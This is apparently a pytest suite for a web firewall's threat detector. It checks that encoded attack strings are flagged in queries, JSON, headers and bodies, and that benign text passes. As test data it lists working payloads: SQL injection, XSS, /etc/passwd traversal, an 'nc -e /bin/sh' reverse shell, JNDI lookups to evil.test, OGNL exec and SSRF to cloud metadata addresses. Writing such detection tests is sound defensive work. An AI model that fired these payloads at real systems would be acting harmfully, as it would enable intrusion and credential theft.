"""meshward.core.threats: every threat name, in several locations and encodings, plus negatives,
hostile input, and the pre-filter's soundness (it must never hide what full inspection finds)."""

from __future__ import annotations

import json
import time
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from meshward.core.bodies import decode_body
from meshward.core.observation import Observation
from meshward.core.threats import HTTP_THREATS, ThreatDetector, default_detector, metadata_address
from meshward.core.threats.inspection import Detector
from meshward.core.threats.normalise import decode

DET = ThreatDetector(level=1)
FULL = ThreatDetector(level=1, prefilter=False)


def q(value: str, name: str = "q") -> Observation:
    return Observation("file", path="/s", query=f"{name}={quote(value, '')}")


def js(value: object) -> Observation:
    body = json.dumps({"user": {"name": "bob", "bio": value}}).encode()
    return Observation(
        "file", method="POST", path="/u", headers=[("content-type", "application/json")], body=body
    )


def hdr(value: str, name: str = "user-agent") -> Observation:
    return Observation("file", path="/", headers=[(name, value)])


def found(obs: Observation, det: ThreatDetector = DET) -> set[tuple[str, str]]:
    return {(t.name, t.location) for t in det.inspect(obs).threats}


def names(obs: Observation, det: ThreatDetector = DET) -> set[str]:
    return {t.name for t in det.inspect(obs).threats}


# (threat name, payloads that must be found in a query value, a JSON leaf and a header)
POSITIVES = [
    (
        "SQL.Injection",
        [
            "1' OR '1'='1",
            "1 union/**/select password from users--",
            "admin'--",
            "1;waitfor delay '0:0:5'--",
            "1 AND SLEEP(5)",
        ],
    ),
    (
        "Cross.Site.Scripting",
        [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(document.cookie)",
            '" onmouseover="alert(1)',
            "<svg/onload=confirm(1)>",
        ],
    ),
    (
        "Path.Traversal",
        [
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/proc/self/environ",
            "....//....//etc/shadow",
            "..;/admin",
            "file:/etc/hosts",
            "\\.\\.\\/\\.\\.\\/conf",
            "x.php%00.gif",
        ],
    ),
    ("Remote.File.Inclusion", ["http://evil.example/shell.txt?", "include('http://x.test/a')"]),
    (
        "Command.Injection",
        [
            "; cat /etc/passwd",
            "$(id)",
            "`whoami`",
            "a|nc -e /bin/sh 10.0.0.1",
            ";cat${IFS}/etc/passwd",
            "x && ping -c 3 127.0.0.1",
            "which wget",
            "$(true)",
            ";w'h'o'am'i",
            ";/???/c?t /???/p?ss??",
            "$(cat${HOME:0:1}x)",
        ],
    ),
    (
        "Template.Injection",
        [
            "{{7*7}}",
            "${7*7}",
            "<%= 7*7 %>",
            "#{7*7}",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}",
        ],
    ),
    (
        "JNDI.Injection",
        [
            "${jndi:ldap://evil.test/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}",
        ],
    ),
    (
        "PHP.Injection",
        [
            "<?php system($_GET['c']); ?>",
            "php://filter/convert.base64-encode/resource=x",
            'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
            "eval(base64_decode('aWQ='))",
        ],
    ),
    (
        "NoSQL.Injection",
        [
            '{"$ne": null}',
            "'; return true; var x='",
            "' && this.password.match(/.*/)//",
            '{"$where": "sleep(100)"}',
        ],
    ),
    (
        "SSRF.Metadata",
        [
            "http://169.254.169.254/latest/meta-data/",
            "http://2852039166/",
            "http://0xa9fea9fe/",
            "http://0251.0376.0251.0376/",
            "http://[::ffff:a9fe:a9fe]/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://169.254.43518/",
            "http://[::ffff:169.254.169.254]/",
        ],
    ),
    (
        "Java.Deserialization",
        [
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "aced0005737200",
            '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
        ],
    ),
    (
        "XML.External.Entity",
        ['<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'],
    ),
    ("LDAP.Injection", ["*)(uid=*))(|(uid=*", "admin)(&)"]),
    ("Server.Side.Include", ['<!--#include virtual="/index.html"-->']),
]


@pytest.mark.parametrize(("name", "payload"), [(n, p) for n, ps in POSITIVES for p in ps])
def test_positive_in_query_json_and_header(name: str, payload: str) -> None:
    assert (name, "query:q") in found(q(payload)), payload
    assert (name, "body:$.user.bio") in found(js(payload)), payload
    assert (name, "header:user-agent") in found(hdr(payload)), payload


def test_every_threat_name_is_covered() -> None:
    covered = {n for n, _ in POSITIVES} | {
        "HTTP.Request.Smuggling",
        "HTTP.Negative.Body.Length",
        "HTTP.Header.Injection",
        # a line break in a value (no header holds one) and the user-agent only:
        # tests/core/threats/test_families.py
        "Mail.Header.Injection",
        "Scanner.UserAgent",
    }
    assert covered == set(HTTP_THREATS)


ENCODINGS = {
    "double-url": lambda s: quote(quote(s, ""), ""),
    "html-entities": lambda s: "".join(f"&#x{ord(c):x};" for c in s),
    "backslash-u": lambda s: "".join(f"\\u{ord(c):04x}" for c in s),
    "percent-u": lambda s: "".join(f"%u{ord(c):04x}" for c in s),
    "fullwidth": lambda s: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in s),
    "upper": str.upper,
    "nul-split": lambda s: "\x00".join(s),
}


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
@pytest.mark.parametrize(
    ("name", "payload"),
    [
        ("SQL.Injection", "1' or '1'='1"),
        ("Cross.Site.Scripting", "<script>alert(1)</script>"),
        ("Path.Traversal", "../../etc/passwd"),
        ("Command.Injection", ";cat /etc/passwd"),
    ],
)
def test_encodings_are_undone(encoding: str, name: str, payload: str) -> None:
    encoded = ENCODINGS[encoding](payload)
    assert name in names(q(encoded)), (encoding, encoded)
    assert name in names(js(encoded)), (encoding, encoded)


def test_comment_and_overlong_spellings() -> None:
    assert "SQL.Injection" in names(q("1/**/UNION/**/SELECT/**/1,2"))
    assert "SQL.Injection" in names(q("1 /*!50000UNION*/ /*!50000SELECT*/ 1"))
    assert "Path.Traversal" in names(Observation("file", path="/a/%c0%ae%c0%ae/%c0%ae%c0%ae/etc"))
    assert "Path.Traversal" in names(Observation("file", path="/%252e%252e%252fetc%252fpasswd"))
    assert "Path.Traversal" in names(q("..%u2215..%u2215etc%u2215passwd"))


def test_other_locations() -> None:
    path = Observation("file", path="/static/..%2f..%2f..%2fetc/passwd")
    assert ("Path.Traversal", "path") in found(path)
    cookie = hdr("theme=dark; sid=1'%20or%201=1--", name="cookie")
    assert ("SQL.Injection", "header:cookie:sid") in found(cookie)
    form = Observation(
        "file",
        method="POST",
        path="/login",
        headers=[("content-type", "application/x-www-form-urlencoded")],
        body=b"user=admin%27--&pw=x",
    )
    assert ("SQL.Injection", "body:user") in found(form)
    multipart = Observation(
        "file",
        method="POST",
        path="/up",
        headers=[("content-type", "multipart/form-data; boundary=zz")],
        body=(
            b'--zz\r\nContent-Disposition: form-data; name="f"; filename="../../x.php"\r\n\r\n'
            b"<?php system($_GET[1]); ?>\r\n--zz--\r\n"
        ),
    )
    assert {("Path.Traversal", "body:f.filename"), ("PHP.Injection", "body:f")} <= found(multipart)
    xml = Observation(
        "file",
        method="POST",
        path="/x",
        headers=[("content-type", "text/xml")],
        body=b"<a><b>1 union select 1</b></a>",
    )
    assert ("SQL.Injection", "body:$.a.b") in found(xml)
    param_name = Observation("file", path="/", query="user%5B%24ne%5D=1")
    assert ("NoSQL.Injection", "query:user[$ne]") in found(param_name)
    nosql_key = js({"$gt": ""})
    assert ("NoSQL.Injection", "body:$.user.bio") in found(nosql_key)
    raw = Observation(
        "file",
        method="POST",
        path="/r",
        headers=[("content-type", "text/plain")],
        body=b"hello ${jndi:ldap://x/a}",
    )
    assert ("JNDI.Injection", "body") in found(raw)
    binary = Observation(
        "file",
        method="POST",
        path="/r",
        headers=[("content-type", "application/octet-stream")],
        body=b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap",
    )
    assert ("Java.Deserialization", "body") in found(binary)
    grpc = Observation(
        "file",
        method="POST",
        path="/pkg.Svc/Get",
        headers=[("content-type", "application/grpc")],
        body=b"\x00\x00\x00\x00\x1a\n\x18../../../../etc/passwd",
    )
    assert ("Path.Traversal", "body") in found(grpc)


def test_grpc_protobuf_framing_is_not_a_newline() -> None:
    """Protobuf tag 0x0a before a field named `id` is framing, not an injected command line."""
    struct = b"\x00\x00\x00\x00\x0f\x0a\x0d\x0a\x02id\x12\x07\x19\x00\x00\x00\x00\x00\x00\x1c\x40"
    grpc = Observation(
        "file",
        method="POST",
        path="/pkg.Svc/Get",
        headers=[("content-type", "application/grpc")],
        body=struct,
    )
    assert DET.inspect(grpc).threats == []
    evil = struct + b"\x12\x10; cat /etc/passwd"
    assert {"Command.Injection", "Path.Traversal"} <= names(
        grpc.__class__(
            "file",
            method="POST",
            path="/pkg.Svc/Get",
            headers=[("content-type", "application/grpc")],
            body=evil,
        )
    )


def test_smuggling_and_negative_length() -> None:
    both = hdr("chunked", name="transfer-encoding")
    both.headers.append(("content-length", "10"))
    assert "HTTP.Request.Smuggling" in names(both)
    dup = Observation("file", headers=[("content-length", "10"), ("content-length", "12")])
    assert "HTTP.Request.Smuggling" in names(dup)
    for te in ("chunked ", "xchunked", "chunked, identity", "\tchunked"):
        assert "HTTP.Request.Smuggling" in names(hdr(te, name="transfer-encoding")), te
    assert "HTTP.Request.Smuggling" in names(hdr("1, 2", name="content-length"))
    assert "HTTP.Request.Smuggling" in names(hdr("chunked", name="transfer_encoding"))
    h2 = hdr("chunked", name="transfer-encoding")
    h2.protocol = "h2"
    assert "HTTP.Request.Smuggling" in names(h2)
    assert names(hdr("chunked", name="transfer-encoding")) == set()
    assert names(hdr("gzip, chunked", name="transfer-encoding")) == set()
    assert names(hdr("42", name="content-length")) == set()
    assert "HTTP.Negative.Body.Length" in names(hdr("-1", name="content-length"))
    neg = Observation("file", body_size=-5)
    assert ("HTTP.Negative.Body.Length", "header:content-length") in found(neg)


def test_content_type_is_inspected() -> None:
    ognl = "%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}"
    assert "Template.Injection" in names(hdr(ognl, name="content-type"))


def test_header_injection() -> None:
    assert "HTTP.Header.Injection" in names(q("x%0d%0aSet-Cookie:%20admin=1"))
    assert "HTTP.Header.Injection" in names(hdr("a\r\nX-Admin: 1", name="x-note"))


BENIGN = [
    "Alice O'Brien",
    "don't stop me now",
    "Rock & Roll",
    "AT&T",
    "Terms & conditions apply",
    "Please select an option from the list",
    "order by date, then by name",
    "1 or 2 items",
    "https://example.com/path?x=1&y=2",
    "/api/v1/users/42",
    "C:\\Users\\alice\\file.txt",
    "SELECT your seat",
    "50% off",
    "user@example.com",
    "+44 20 7946 0958",
    "hello world!",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "en-GB,en;q=0.9",
    "It's a 5' 10\" person",
    "price <= 100",
    "a < b and c > d",
    "Café crème brûlée",
    "sid=abc123; theme=dark",
    "What is 2+2?",
    "the ping of the bell",
    "cat lovers unite",
    "id",
    "ls",
    "1.2.3.4",
    "10.0.0.1",
    "{name} placeholder",
    "${HOME} is a variable",
    "2852039166 is my order number",
    'I said "hello"',
    "page=2",
    "see the README for details",
    "rock 'n' roll",
    "<b>bold</b>",
    "x = y",
    "Version 1.2.3 (build 45)",
    "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2ln",
    "The union of sets A and B",
]


@pytest.mark.parametrize("value", BENIGN)
def test_benign_values_are_clean(value: str) -> None:
    assert names(q(value)) == set(), value
    assert names(js(value)) == set(), value


def test_relative_parent_path_is_traversal_at_level_1() -> None:
    """Like OWASP CRS at paranoia level 1, a parent-directory step in a value is flagged."""
    assert "Path.Traversal" in names(q("see ../README for details"))


def test_levels() -> None:
    with pytest.raises(ValueError):
        ThreatDetector(level=4)
    paranoid = ThreatDetector(level=3)
    assert names(q("<b>bold</b>")) == set()
    assert "Cross.Site.Scripting" in names(q("<b>bold</b>"), paranoid)
    assert "Template.Injection" in names(q("{{user.name}}"), ThreatDetector(level=2))


def test_evidence_is_bounded_and_escaped() -> None:
    payload = "<script>" + "A" * 500 + "\x01\x1b</script>"
    obs = Observation(
        "file",
        method="POST",
        path="/",
        headers=[("content-type", "text/plain")],
        body=("\x1b[31m" + "'; " * 100 + "union select 1").encode(),
    )
    for t in DET.inspect(q(payload)).threats + DET.inspect(obs).threats:
        assert len(t.evidence) <= 128
        assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in t.evidence), t.evidence


def test_hostile_input_is_bounded() -> None:
    cases = [
        Observation(
            "file",
            method="POST",
            path="/",
            headers=[("content-type", "application/json")],
            body=b'{"a": "' + b"' or 1=1 " * (1 << 20) + b'"}',
        ),  # ~9 MB
        Observation(
            "file",
            method="POST",
            path="/",
            headers=[("content-type", "application/json")],
            body=b"[" * 10_000 + b"]" * 10_000,
        ),
        Observation("file", method="POST", path="/", body=bytes(range(256)) * 4096),
        Observation("file", path="/", query="&".join(["a=%27"] * 1_000_000)),
        Observation("file", path="/", query="x=" + "(" * 100_000 + "%27" * 50_000),
        q("union " * 50_000),
        q("<a " * 30_000),
        q("%25" * 30_000 + "32"),
        hdr("${" * 20_000 + "jndi:" + "}" * 20_000),
    ]
    for obs in cases:
        t0 = time.perf_counter()
        result = DET.inspect(obs)
        assert time.perf_counter() - t0 < 3.0, obs.path
        assert len(result.threats) <= DET.max_threats
    big = DET.inspect(cases[0])
    assert big.partial


def test_partial_when_source_truncated() -> None:
    obs = js("hello")
    obs.body_truncated = True
    assert DET.inspect(obs).partial
    obs = js("hello")
    obs.body_size = len(obs.body) + 100
    assert DET.inspect(obs).partial
    assert not DET.inspect(js("hello")).partial


def test_partial_when_a_part_or_value_is_cut() -> None:
    small = ThreatDetector(level=1, max_scan_bytes=1000, max_value_bytes=100)
    assert small.inspect(q("x" * 2000)).partial  # query longer than max_scan_bytes
    assert small.inspect(js("'" + "y" * 500)).partial  # one value longer than max_value_bytes
    assert not small.inspect(q("hello")).partial


def test_findings_limit() -> None:
    small = ThreatDetector(level=1, max_threats=3)
    query = "&".join(f"p{i}=%27%20or%201=1--" for i in range(50))
    result = small.inspect(Observation("file", path="/", query=query))
    assert len(result.threats) == 3
    assert small.dropped > 0


def test_metadata_address_spellings() -> None:
    for text in (
        "169.254.169.254",
        "http://2852039166/",
        "0xA9FEA9FE",
        "0251.0376.0251.0376",
        "0xa9.0xfe.0xa9.0xfe",
        "169.254.43518",
        "[::ffff:a9fe:a9fe]",
        "100.100.100.200",
    ):
        assert metadata_address(text.lower(), whole_value=True), text
    for text in ("169.254.169.253", "10.0.0.1", "order 2852039166", "1.2.3.4"):
        assert not metadata_address(text), text


def test_uses_the_body_the_caller_decoded() -> None:
    obs = js("1' union select password from users--")
    decoded = decode_body(obs.header("content-type"), obs.body)
    assert ("SQL.Injection", "body:$.user.bio") in {
        (t.name, t.location) for t in DET.inspect(obs, decoded).threats
    }
    decoded.fields.clear()  # proof that the given decoding is used, not a second one
    assert DET.inspect(obs, decoded).threats == []


def test_engine_runs_the_detector() -> None:
    from meshward.core.engine import Engine, EngineConfig

    engine = Engine(config=EngineConfig())
    verdict = engine.evaluate(q("1' or '1'='1"), mode="enforce")
    assert verdict.verdict == "deny"
    assert any(t.name == "SQL.Injection" for t in verdict.threats)


def test_default_detector_is_shared_and_a_detector() -> None:
    d: Detector = default_detector()
    assert d is default_detector()
    assert d.inspect(q("hello")).threats == []


FRAGMENTS = [
    "'",
    '"',
    "`",
    " or ",
    "1=1",
    "--",
    "#",
    "/*",
    "*/",
    "union",
    " select ",
    "<",
    ">",
    "script",
    "onerror=",
    "javascript:",
    "../",
    "..\\",
    "/etc/passwd",
    ";",
    "|",
    "$(",
    "${",
    "{{",
    "}}",
    "7*7",
    "jndi:",
    "ldap://",
    "$ne",
    "[$gt]",
    "169.254.169.254",
    "rO0AB",
    "<?php",
    "%27",
    "%2e%2e%2f",
    "&#x3c;",
    "\\u003c",
    "%u002e",
    "\uff1c",
    "\x00",
    "id",
    "cat ",
    "sleep(5)",
    "alert(1)",
    " ",
    "a",
    "=",
    "&",
    "+",
    "\n",
    "w'h'o",
    "'am'i",
    "\\",
    "$@",
    "which ",
    "curl",
    "`true`",
    "false",
    "%00",
    ".jpg",
    "file:/",
    "c:",
    "/???/",
    "c?t",
    "${PATH:0:1}",
    ".\\.\\/",
    ")",
    "]",
    "{cat,",
    "/etc/passwd}",
]


@settings(max_examples=400, deadline=None)
@given(
    parts=st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=8),
    where=st.sampled_from(["query", "json", "header", "path", "form", "text"]),
)
def test_prefilter_never_hides_a_finding(parts: list[str], where: str) -> None:
    value = "".join(parts)
    if where == "query":
        obs = Observation("file", path="/", query="a=1&q=" + value.replace("&", "%26"))
    elif where == "json":
        obs = js(value)
    elif where == "header":
        obs = hdr(value.replace("\n", " "))
    elif where == "path":
        obs = Observation("file", path="/x/" + value)
    else:
        ct = "application/x-www-form-urlencoded" if where == "form" else "text/plain"
        obs = Observation(
            "file",
            method="POST",
            path="/",
            headers=[("content-type", ct)],
            body=("f=" + value if where == "form" else value).encode(),
        )
    assert found(obs) == found(obs, FULL), value


def two_places(decoy: str, value: str, where: str) -> Observation:
    """`decoy` in a header before the part that carries `value`."""
    headers = [("x-note", decoy.replace("\n", " ")), ("content-type", "application/json")]
    if where == "json":
        body = json.dumps({"q": value}).encode()
        return Observation("file", method="POST", path="/", headers=headers, body=body)
    if where == "query":
        return Observation("file", path="/", query="q=" + quote(value, ""), headers=headers)
    return Observation("file", path="/", headers=[*headers, ("user-agent", value)])


def test_a_pattern_matching_in_one_part_still_flags_the_next() -> None:
    """A signature that matched in a part with nothing to report (prose) must not hide the same
    signature's match in a later part: the pre-filter reports every match, not the first."""
    prose = "The ls command is handy; ls -la is what I use"
    assert found(hdr(prose, "x-note")) == set()
    for where in ("json", "query", "header"):
        obs = two_places(prose, "x; ls -la /tmp", where)
        assert ("Command.Injection", "header:user-agent" if where == "header" else "") in {
            (n, "header:user-agent" if loc == "header:user-agent" else "") for n, loc in found(obs)
        }
        assert found(obs) == found(obs, FULL)


@settings(max_examples=150, deadline=None)
@given(
    decoy=st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=6),
    parts=st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=6),
    where=st.sampled_from(["query", "json", "header"]),
)
def test_prefilter_never_hides_a_finding_behind_another_part(
    decoy: list[str], parts: list[str], where: str
) -> None:
    """Two values in two places; the same request twice (the second time, header values the
    first scan found clean are left out of the scan)."""
    obs = two_places("".join(decoy), "".join(parts), where)
    want = found(obs, FULL)
    assert found(obs) == want
    assert found(obs) == want


def test_clean_header_values_are_remembered_bounded_and_never_credentials() -> None:
    det = ThreatDetector(level=1)
    obs = Observation(
        "file",
        path="/",
        headers=[
            ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
            ("authorization", "Bearer abc.def.ghi"),
            ("cookie", "sid=3f9a2c"),
            ("x-note", "Tom &amp; Jerry"),  # an entity: the pre-filter flags it, detail clears it
        ],
    )
    assert det.inspect(obs).threats == []
    kept = det._clean.values
    assert kept == {"Mozilla/5.0 (X11; Linux x86_64)"}
    # a remembered value is left out of the scan, the rest of the request is not
    attack = Observation("file", path="/", query="q=1%27%20or%201=1--", headers=obs.headers[:1])
    assert names(attack, det) == {"SQL.Injection"}
    for n in range(det._clean.limit + 10):
        det.inspect(hdr(f"agent/{n}"))
    assert len(det._clean.values) <= det._clean.limit


def test_a_flood_of_matches_flags_every_part() -> None:
    """Past MAX_MATCHES pre-filter matches every part is inspected in detail (sound), rather than
    paying for each match."""
    from meshward.core.threats.detector import MAX_MATCHES

    flood = "%41" * (MAX_MATCHES + 50)
    obs = Observation(
        "file",
        path="/",
        query="q=" + flood,
        headers=[("x-a", flood), ("user-agent", "x; cat /etc/passwd")],
    )
    assert found(obs) == found(obs, FULL)
    assert ("Command.Injection", "header:user-agent") in found(obs)


def test_typical_request_is_clean_and_fast() -> None:
    from bench.detect import typical_request

    obs = typical_request()
    assert DET.inspect(obs).threats == []
    assert FULL.inspect(obs).threats == []
    t0 = time.perf_counter()
    for _ in range(200):
        DET.inspect(obs)
    per_call = (time.perf_counter() - t0) / 200
    assert per_call < 500e-6  # loose bound for a loaded CI machine; bench/detect.py measures


def test_hyperscan_agrees_with_re() -> None:
    """Differential check of the compiled signatures against Python's re (same patterns): every
    re match must be a Hyperscan match too, with and without a prefix (this caught a Hyperscan
    bug with bounded whitespace repeats, see signatures._BOUNDED_SPACE)."""
    import re

    from meshward.core.threats.normalise import normalise

    sigs = ThreatDetector(level=3).sigs
    samples = (
        [normalise(p) for _, ps in POSITIVES for p in ps]
        + [
            "'; sleep(5000); '",
            "1; select 1",
            "x\n; select *",
            "a && ping -c 1 127.0.0.1",
        ]
        + [f.lower() for f in FRAGMENTS]
    )
    for text in samples:
        for prefix in ("", "x" * 40 + " ", "y" * 300 + "\n"):
            data = (prefix + text).encode("utf-8", "replace")
            got = {sid for sid, _ in sigs.scan(data)}
            for sid, sig in enumerate(sigs.signatures):
                if re.search(sig.pattern.encode(), data, re.IGNORECASE | re.MULTILINE):
                    assert sid in got, (sig.name, sig.pattern[:60], data[-80:])


def test_surrogate_escapes_decode_to_whole_characters() -> None:
    """\\uD83D\\uDE00 escapes decode one half at a time; lone halves cannot be encoded as UTF-8
    (libinjection raised on them, so the whole Check failed and monitor mode let it through)."""
    assert decode("\\ud83d\\ude00 x") == "\U0001f600 x"
    assert decode("\\ud800 x") == "\ufffd x"
    assert decode('{"\\udc00": 1}') == '{"\ufffd": 1}'
    raw = Observation(
        "file",
        method="POST",
        path="/",
        headers=[("content-type", "text/plain")],
        body=b"\\ud800\\udc00 x' or 'a'='a",
    )
    assert "SQL.Injection" in {t.name for t in default_detector().inspect(raw).threats}
    for body in (b'{"q": "\\ud800\' or 1=1 --"}', b'{"\\ud800\\udc00": "\\udc00\' or 1=1 --"}'):
        obs = Observation(
            "file",
            method="POST",
            path="/",
            headers=[("content-type", "application/json")],
            body=body,
        )
        assert "SQL.Injection" in {t.name for t in default_detector().inspect(obs).threats}


def test_lone_surrogates_in_any_part_are_inspected() -> None:
    """No source should hand over text with surrogates, but one that does gets inspected, not
    an exception (the pre-filter encodes the head in one piece)."""
    det = default_detector()
    obs = Observation(
        "file",
        path="/\ud800/x",
        query="q=\udc80",
        headers=[("user-agent", "\udbff ' or 1=1 --"), ("x", "\ud800")],
    )
    assert "SQL.Injection" in {t.name for t in det.inspect(obs).threats}
    obs = Observation("file", path="/\ud800/../../etc/passwd")
    assert "Path.Traversal" in {t.name for t in det.inspect(obs).threats}
